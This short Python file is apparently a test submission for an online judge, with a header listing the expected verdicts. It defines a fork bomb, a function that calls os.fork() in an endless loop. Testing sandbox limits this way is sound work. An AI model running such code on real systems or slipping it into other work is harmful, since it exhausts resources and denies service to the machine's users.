# verdict: time_limit_exceeded memory_limit_exceeded run_time_error
# Forks without end.
import os
def twice(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
